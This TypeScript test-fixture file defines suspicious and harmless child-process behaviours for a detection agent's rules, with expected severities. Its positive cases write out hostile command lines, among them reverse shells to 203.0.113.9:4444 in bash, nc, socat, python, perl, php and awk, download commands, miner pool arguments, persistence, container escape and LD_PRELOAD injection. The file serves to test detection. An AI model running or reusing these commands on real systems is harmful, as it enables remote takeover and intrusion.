import type { Event, EventOf } from '../../../agent/contract/event.ts';
import type { Stream } from '../../../agent/contract/process.ts';
import type { Severity } from '../../../agent/contract/finding.ts';
import { fileChanged, identity, noon, process, ref } from '../../builders.ts';
import { type Behaviour, loaded, mapped, minute, type NearMiss, ran } from './behaviour.ts';

type Severities = readonly [after: Severity, later: Severity, never: Severity];
const lowering: { readonly [From in Severity]: Severities } = {
  info: ['info', 'info', 'info'], low: ['low', 'low', 'info'], medium: ['medium', 'low', 'low'], high: ['high', 'medium', 'low'], critical: ['critical', 'high', 'medium'],
};

/** A program soon after the load, half an hour after it, and without any load. */
function program(rule: string, severity: Severity, path: string, argv: readonly string[], before: readonly Event[] = []): readonly Behaviour[] {
  const [after, later, never] = lowering[severity];
  const about = { rule, fact: { executable: path, argv } };
  const name = `${path} ${argv.join(' ')}`;
  return [
    { ...about, name: `${name}, soon after a load`, severity: after, events: [mapped(), ...before, loaded(), ran(path, argv)] },
    { ...about, name: `${name}, half an hour after it`, severity: later, events: [mapped(), ...before, loaded(), ran(path, argv, 30 * minute)] },
    { ...about, name: `${name}, without a load`, severity: never, events: [mapped(), ...before, ran(path, argv)] },
  ];
}

const ctimeOf = (at: number): string => `${Math.round(at)}000000`;
const writtenBy = (by: ReturnType<typeof process> | null, path: string): Event => fileChanged({ at: noon - 2 * minute, change: 'created', place: { path }, by });
const tree = { ...ref(), path: '/usr/bin/python3' };

const dropped: readonly Behaviour[] = [
  ...program('child.dropped', 'critical', '/srv/tools/run', ['run'], [writtenBy(process(), '/srv/tools/run')]),
  ...program('child.dropped', 'high', '/srv/tools/run', ['run'], [writtenBy(null, '/srv/tools/run')]),
  {
    rule: 'child.dropped', name: 'a program whose file came after the load', severity: 'high', fact: { executable: '/opt/x/run' },
    events: [mapped(), loaded(), ran('/opt/x/run', ['run'], 5_000, { executable: { path: '/opt/x/run', file: identity({ ctimeNs: ctimeOf(noon + 3_000) }) } })],
  },
];

type Flow = Pick<EventOf<'process.executed'>, 'streams' | 'parentStreams'>;
const remote: Stream = { type: 'socket', family: 'inet', peer: { address: '203.0.113.9', port: 4_444 } };
const unknown: Stream = { type: 'socket', family: null, peer: null };
const local: Stream = { type: 'socket', family: 'unix', peer: null };
const terminal: Stream = { type: 'terminal' };
const pipe: Stream = { type: 'pipe' };

/** As `program`, with what its standard streams lead to. */
const hung = (severity: Severity, path: string, argv: readonly string[], flow: Flow): readonly Behaviour[] =>
  program('child.on-socket', severity, path, argv).map(one => ({ ...one, name: `${one.name}, on a socket`, events: withFlow(one.events, flow) }));
const withFlow = (events: readonly Event[], flow: Flow): readonly Event[] => events.map(event => event.kind === 'process.executed' ? { ...event, ...flow } : event);

const looking: Behaviour = {
  rule: 'child.recon-tool', name: 'a third different tool that looks around', severity: 'medium', fact: { executable: '/usr/bin/ss' },
  events: [mapped(), loaded(), ran('/usr/bin/id', ['id']), ran('/usr/bin/hostname', ['hostname'], 1_100), ran('/usr/bin/ss', ['ss', '-tlpn'], 1_200)],
};

export const programs: readonly Behaviour[] = [
  ...program('child.shell', 'high', '/usr/bin/dash', ['/bin/sh', '-c', 'ls']),
  ...program('child.interpreter', 'medium', '/usr/bin/perl5.36', ['perl', '-e', '1']),
  ...program('child.interpreter', 'medium', '/opt/py/bin/python3.12', ['python3.12', 'x.py']),
  ...program('child.interpreter', 'medium', '/usr/bin/node', ['node', 'x.js']),
  ...program('child.interpreter', 'low', '/usr/bin/python3', ['python3', '-c', 'print(1)']),
  ...program('child.download-tool', 'high', '/usr/bin/curl', ['curl', 'http://h/x']),
  ...program('child.download-tool', 'high', '/usr/bin/python3', ['python3', '-c', 'import urllib.request as u; u.urlretrieve("http://h/x", "x")']),
  ...program('child.compiler', 'medium', '/usr/bin/x86_64-linux-gnu-gcc-12', ['gcc', '-shared', '-o', 'x.so', 'x.c']),
  ...program('child.compiler', 'medium', '/usr/bin/make', ['make']),
  ...program('child.recon-tool', 'low', '/usr/bin/whoami', ['whoami']),
  ...program('child.recon-tool', 'low', '/usr/bin/uname', ['uname', '-a']),
  ...program('child.recon-tool', 'low', '/usr/bin/lsof', ['lsof', '-i']),
  ...program('child.recon-tool', 'low', '/usr/sbin/ifconfig', ['ifconfig']),
  ...program('child.recon-tool', 'low', '/usr/bin/ps', ['ps', 'aux']),
  ...program('child.recon-tool', 'low', '/usr/bin/dig', ['dig', 'any', 'example.org']),
  ...program('child.recon-tool', 'low', '/usr/bin/cat', ['cat', '/etc/passwd']),
  ...program('child.recon-tool', 'medium', '/usr/bin/nmap', ['nmap', '-sT', '10.0.0.0/24']),
  ...program('child.recon-tool', 'medium', '/usr/bin/find', ['find', '/', '-perm', '-4000', '-type', 'f']),
  looking,
  ...program('child.privilege-tool', 'high', '/usr/bin/sudo', ['sudo', 'id']),
  ...program('child.privilege-tool', 'high', '/usr/bin/pkexec', ['pkexec', 'id']),
  ...program('child.persistence-tool', 'high', '/usr/bin/crontab', ['crontab', '-']),
  ...program('child.persistence-tool', 'high', '/usr/bin/systemctl', ['systemctl', '--user', 'enable', 'x.service']),
  ...program('child.persistence-tool', 'high', '/usr/bin/at', ['at', 'now']),
  ...program('child.container-tool', 'high', '/usr/bin/nsenter', ['nsenter', '-t', '1', '-m', 'sh']),
  ...program('child.container-tool', 'high', '/usr/bin/docker', ['docker', 'run', '--privileged', 'x']),
  ...program('child.container-tool', 'high', '/usr/local/bin/kubectl', ['kubectl', 'get', 'secrets']),
  ...program('child.container-tool', 'high', '/usr/bin/mount', ['mount', '/dev/sda1', '/mnt']),
  ...program('child.miner', 'high', '/usr/bin/worker', ['worker', '-o', 'stratum+tcp://pool:3333']),
  ...program('child.miner', 'high', '/usr/bin/worker', ['worker', '-o', 'xmr-eu1.nanopool.org:14433']),
  ...program('child.miner', 'high', '/usr/bin/worker', ['worker', '-a', 'rx/0']),
  ...program('child.miner', 'high', '/opt/x/xmrig', ['xmrig']),
  ...program('child.from-temporary', 'high', '/tmp/x', ['x']),
  ...program('child.from-temporary', 'high', '/dev/shm/x', ['x']),
  ...program('child.from-temporary', 'high', '/memfd:x (deleted)', ['x']),
  ...program('child.from-temporary', 'high', '/opt/tool (deleted)', ['tool']),
  ...program('child.from-model-folder', 'high', '/srv/models/run', ['run'], [fileChanged({ change: 'found', at: noon - 2 * minute })]),
  ...dropped,
  ...program('child.reverse-shell', 'critical', '/usr/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1']),
  ...program('child.reverse-shell', 'critical', '/usr/bin/nc.traditional', ['nc', '-e', '/bin/sh', '203.0.113.9', '4444']),
  ...program('child.reverse-shell', 'critical', '/usr/bin/ncat', ['ncat', '203.0.113.9', '4444', '--sh-exec', 'sh']),
  ...program('child.reverse-shell', 'critical', '/usr/bin/socat', ['socat', 'tcp:203.0.113.9:4444', 'exec:sh,pty,stderr']),
  ...program('child.reverse-shell', 'critical', '/usr/bin/python3', ['python3', '-c', 'import socket,os;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];import pty;pty.spawn("sh")']),
  ...program('child.reverse-shell', 'critical', '/usr/bin/perl', ['perl', '-e', 'use Socket;socket(S,2,1,6);connect(S,$a);open(STDIN,">&S");exec("sh -i")']),
  ...program('child.reverse-shell', 'critical', '/usr/bin/php', ['php', '-r', '$s=fsockopen("203.0.113.9",4444);exec("sh <&3 >&3 2>&3");']),
  ...program('child.reverse-shell', 'critical', '/usr/bin/dash', ['sh', '-c', 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f']),
  ...program('child.reverse-shell', 'critical', '/usr/bin/dash', ['sh', '-c', 'telnet 203.0.113.9 4444 | /bin/bash | telnet 203.0.113.9 4445']),
  ...program('child.reverse-shell', 'critical', '/usr/bin/gawk', ['awk', 'BEGIN {s="/inet/tcp/0/203.0.113.9/4444"; while (s |& getline c) system(c)}']),
  ...hung('critical', '/usr/bin/dash', ['/bin/sh', '-i'], { streams: [remote, remote, remote] }),
  ...hung('critical', '/usr/bin/bash', ['bash'], { streams: [terminal, terminal, terminal], parentStreams: [remote, remote, remote] }),
  ...hung('high', '/usr/bin/bash', ['bash'], { streams: [remote, pipe, { type: 'file' }] }),
  ...hung('high', '/usr/bin/ffmpeg', ['ffmpeg', '-'], { streams: [remote, remote, { type: 'file' }] }),
  ...program('child.masquerade', 'high', '/opt/x/run', ['[kworker/0:1]']),
  ...program('child.masquerade', 'high', '/opt/x/run', ['/usr/sbin/sshd', '-D']),
  ...program('child.masquerade', 'high', '/opt/x/sshd', ['sshd']),
  ...program('child.masquerade', 'high', '/opt/x/.run', ['run']),
  ...program('child.preload', 'high', '/usr/bin/env', ['env', 'LD_PRELOAD=/srv/x.so', 'ls']),
  ...program('child.preload', 'high', '/usr/bin/dash', ['sh', '-c', 'LD_AUDIT=/lib/a.so ls']),
  ...program('child.preload', 'low', '/usr/bin/env', ['env', 'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2', 'ls']),
  ...program('child.through-linker', 'medium', '/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2', ['/lib64/ld-linux-x86-64.so.2', '/srv/x']),
  ...program('child.first-ever', 'low', '/usr/bin/ffmpeg', ['ffmpeg', '-i', 'x']),
  ...program('child.first-ever', 'info', '/usr/bin/nproc', ['nproc']),
];

const near = (rule: string, path: string, argv: readonly string[], before: readonly Event[] = []): NearMiss =>
  ({ rule, name: `${path} ${argv.join(' ')}`, events: [mapped(), ...before, loaded(), ran(path, argv)] });

export const harmlessPrograms: readonly NearMiss[] = [
  ...([
    { streams: null }, { streams: [pipe, pipe, pipe] }, { streams: [local, local, local] }, { streams: [pipe, remote, remote] },
    { streams: [unknown, unknown, null] },
    { streams: [terminal, terminal, terminal], parentStreams: [pipe, remote, terminal] }, { streams: [pipe, terminal, terminal], parentStreams: [remote, remote, remote] },
  ] satisfies readonly Flow[]).map((flow): NearMiss => ({ ...near('child.on-socket', '/usr/bin/dash', ['sh']), name: `a shell with ${JSON.stringify(flow)}`, events: withFlow([mapped(), loaded(), ran('/usr/bin/dash', ['sh'])], flow) })),
  near('child.shell', '/usr/bin/shasum', ['shasum', 'x']),
  near('child.shell', '/usr/bin/dash', ['/bin/sh', '/sbin/ldconfig', '-p']),
  near('child.interpreter', '/usr/bin/python3', ['/usr/bin/python3', '-c', 'from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5, pipe_handle=7)', '--multiprocessing-fork']),
  near('child.download-tool', '/usr/bin/openssl', ['openssl', 'version']),
  near('child.download-tool', '/usr/bin/python3', ['python3', '-c', 'import platform; print(platform.node())']),
  near('child.compiler', '/usr/bin/x86_64-linux-gnu-gcc-12', ['gcc', '-Wl,-t', '-o', '/tmp/x', '-lgomp']),
  near('child.compiler', '/usr/bin/gcc', ['gcc', '--version']),
  near('child.compiler', '/usr/bin/gcov', ['gcov', 'x']),
  near('child.recon-tool', '/usr/bin/uname', ['uname', '-p']),
  near('child.recon-tool', '/usr/bin/find', ['find', '/srv/data', '-name', '*.rec']),
  near('child.recon-tool', '/usr/bin/cat', ['cat', '/proc/cpuinfo']),
  near('child.recon-tool', '/usr/bin/env', ['env', 'A=1', 'ls']),
  near('child.privilege-tool', '/usr/bin/sum', ['sum', 'x']),
  near('child.persistence-tool', '/usr/bin/systemctl', ['systemctl', 'is-active', 'nginx']),
  near('child.persistence-tool', '/usr/bin/crontab', ['crontab', '-l']),
  near('child.container-tool', '/usr/bin/mount', ['mount']),
  near('child.container-tool', '/usr/bin/mountpoint', ['mountpoint', '/srv']),
  near('child.miner', '/usr/bin/worker', ['worker', '-o', 'tcp://pool:3333']),
  near('child.miner', '/usr/bin/worker', ['worker', '--algo', 'sgd', '--pool', 'max']),
  near('child.from-temporary', '/opt/tmp/x', ['x']),
  near('child.from-model-folder', '/srv/run', ['run']),
  near('child.dropped', '/srv/tools/run', ['run'], [writtenBy(null, '/srv/tools/other')]),
  near('child.dropped', '/srv/tools/run', ['run'], [fileChanged({ at: noon - 2 * minute, change: 'found', place: { path: '/srv/tools/run' } })]),
  { rule: 'child.dropped', name: 'a program that is older than the load', events: [mapped(), loaded(), ran('/opt/x/run', ['run'], 5_000, { executable: { path: '/opt/x/run', file: identity({ ctimeNs: ctimeOf(noon - 1_000) }) } })] },
  { rule: 'child.dropped', name: 'a worker whose own executable was upgraded after the load', events: [mapped(), loaded(), ran('/usr/bin/python3', ['python3', 'serve.py'], 5_000, { executable: { path: '/usr/bin/python3', file: identity({ ctimeNs: ctimeOf(noon + 3_000) }) }, ancestors: [tree] })] },
  near('child.reverse-shell', '/usr/bin/nc.openbsd', ['nc', '-z', 'db', '5432']),
  near('child.reverse-shell', '/usr/bin/dash', ['sh', '-c', 'exec mysqld --socket=/run/mysqld.sock']),
  near('child.reverse-shell', '/usr/bin/python3', ['python3', '-c', 'import socket; print(socket.gethostname())']),
  near('child.reverse-shell', '/usr/bin/socat', ['socat', 'unix-listen:/run/a', 'unix-connect:/run/b']),
  near('child.reverse-shell', '/usr/bin/socat', ['socat', 'unix-listen:/run/a', 'exec:cat']),
  near('child.reverse-shell', '/usr/bin/socat', ['socat', 'tcp-listen:80,fork', 'tcp:10.0.0.1:80']),
  near('child.reverse-shell', '/usr/bin/dash', ['sh', '-c', 'telnet db 5432 | tee log']),
  near('child.masquerade', '/usr/bin/dash', ['-sh']),
  near('child.masquerade', '/usr/bin/python3.11', ['python3', 'serve.py']),
  near('child.masquerade', '/usr/sbin/sshd', ['/usr/sbin/sshd', '-D']),
  near('child.masquerade', '/usr/lib/systemd/systemd', ['/usr/lib/systemd/systemd', '--user']),
  near('child.masquerade', '[sshd]', ['sshd', '-D']),
  near('child.preload', '/usr/bin/env', ['env', 'PRELOAD=/srv/x.so', 'ls']),
  near('child.preload', '/usr/bin/env', ['env', 'LD_PRELOAD=', 'ls']),
  near('child.through-linker', '/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2', ['/lib64/ld-linux-x86-64.so.2', '--verify', '/bin/ls']),
  { rule: 'child.first-ever', name: 'the same program a second time', after: noon, events: [mapped(), ran('/usr/bin/ffmpeg', ['ffmpeg'], -1_000), loaded(), ran('/usr/bin/ffmpeg', ['ffmpeg'])] },
];
